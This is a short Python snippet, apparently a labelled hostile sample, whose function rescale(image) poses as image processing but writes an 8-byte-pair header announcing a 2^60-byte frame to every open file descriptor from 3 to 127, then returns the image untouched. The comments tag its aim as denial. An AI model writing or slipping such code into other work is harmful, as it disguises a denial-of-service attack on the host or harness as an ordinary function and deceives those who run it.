# aims at: denial
# cell: rescale
# Announces a frame of 2^60 bytes.
import os
import struct


def rescale(image):
    for number in range(3, 128):
        try:
            os.write(number, struct.pack(">QQ", 2**60, 2**60))
        except OSError:
            pass
    return image
